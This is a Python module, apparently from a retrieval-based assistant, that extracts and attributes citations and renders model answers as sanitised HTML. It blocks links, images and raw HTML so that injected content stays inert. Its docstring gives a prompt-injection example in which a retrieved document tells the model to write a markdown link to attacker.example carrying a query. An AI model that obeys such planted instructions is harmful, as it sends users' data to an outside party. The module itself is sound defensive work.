"""From the model's [n] marks to citations, and from an answer's text to safe HTML.

The model's output is untrusted like the documents it read: markdown is rendered with raw
HTML, links and images off, and the result is cleaned by nh3 with a short allow-list whose
only link targets are the answer's own passages, so neither the model nor a document can
put a script, a form, an image or a link anywhere else on the page (a document telling
the model to write `[see here](https://attacker.example/?q=…)` gets that text, inert).
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from typing import Any

import nh3

from apps.assistant.sentences import content_words, sentences

_MARK = re.compile(r"\[(\d+(?:\s*,\s*\d+)*)\]")

ALLOWED_TAGS = {
    "p", "br", "strong", "em", "code", "pre", "ul", "ol", "li", "blockquote",
    "h1", "h2", "h3", "h4", "table", "thead", "tbody", "tr", "th", "td", "a", "span",
}  # fmt: skip
# href is not here: an answer's links are exactly its passages' (render_answer).
ALLOWED_ATTRIBUTES = {"a": {"class", "title"}, "span": {"class"}}
# Markdown that would make a link or fetch something: shown as the text it is.
_INERT_MARKDOWN = ["link", "image", "autolink", "reference"]


def cited_numbers(text: str) -> list[int]:
    """Every passage number the text cites, in order of first mention."""
    seen: list[int] = []
    for match in _MARK.finditer(text):
        for part in match.group(1).split(","):
            n = int(part)
            if n not in seen:
                seen.append(n)
    return seen


def extract_citations(text: str, passages: Sequence[dict[str, Any]]) -> list[dict[str, Any]]:
    """The passages the answer cites; a number that names no passage is dropped."""
    by_number = {p["n"]: p for p in passages}
    return [by_number[n] for n in cited_numbers(text) if n in by_number]


# A sentence is attributed to a passage when at least this share of its content words
# appear in the passage.
ATTRIBUTION_MIN_OVERLAP = 0.5
ATTRIBUTION_MIN_WORDS = 3


def attribute(text: str, passages: Sequence[dict[str, Any]]) -> str:
    """Add [n] to each sentence that restates a passage, for answers that cite nothing.

    Small local models often answer from the passages without writing [n]. A sentence
    most of whose content words come from one passage gets that passage's number, so
    the reader can still check it; a sentence that matches no passage gets nothing.
    """
    words = {p["n"]: content_words(p["text"]) for p in passages}
    out = []
    for sentence in sentences(text):
        mine = content_words(sentence)
        best, share = None, 0.0
        if len(mine) >= ATTRIBUTION_MIN_WORDS:
            for n, theirs in words.items():
                overlap = len(mine & theirs) / len(mine)
                if overlap > share:
                    best, share = n, overlap
        if best is not None and share >= ATTRIBUTION_MIN_OVERLAP:
            stripped = sentence.rstrip()
            end = len(stripped)
            while end and stripped[end - 1] in ".!?\"'”’)]":
                end -= 1
            sentence = f"{stripped[:end]} [{best}]{stripped[end:]}{sentence[len(stripped) :]}"
        out.append(sentence)
    return "".join(out)


def cite(text: str, passages: Sequence[dict[str, Any]]) -> tuple[str, list[dict[str, Any]]]:
    """The answer's text and its citations, each saying who made it: "model" for the
    model's own [n]; when it numbered nothing, "match" for the sentences `attribute` ties
    to a passage (their [n] is then added to the text)."""
    cited = extract_citations(text, passages)
    if cited or not text:
        return text, [{**c, "by": "model"} for c in cited]
    text = attribute(text, passages)
    return text, [{**c, "by": "match"} for c in extract_citations(text, passages)]


def render_answer(
    text: str, *, passages: Sequence[dict[str, Any]], link: Callable[[int], str]
) -> str:
    """Sanitised HTML for an answer; each valid [n] becomes a link to its passage, and
    nothing else is a link: any URL the text holds stays text, never fetched."""
    from markdown_it import MarkdownIt  # slow: ~45 ms to import, only pages with answers need it

    html = MarkdownIt("commonmark", {"html": False}).disable(_INERT_MARKDOWN).render(text)
    valid = {p["n"]: p for p in passages}

    def linkify(match: re.Match[str]) -> str:
        parts = []
        for raw in match.group(1).split(","):
            n = int(raw)
            passage = valid.get(n)
            if passage is None:
                parts.append(f"[{n}]")  # a number that names no passage stays plain text
                continue
            title = passage.get("title", "")
            parts.append(f'<a class="cite" href="{link(n)}" title="{_attr(title)}">[{n}]</a>')
        return "".join(parts)

    html = _MARK.sub(linkify, html)
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        tag_attribute_values={"a": {"href": {link(n) for n in valid}}},
        url_schemes=set(),
        link_rel="noopener noreferrer",
    )


def _attr(value: str) -> str:
    return (
        value.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;")
    )
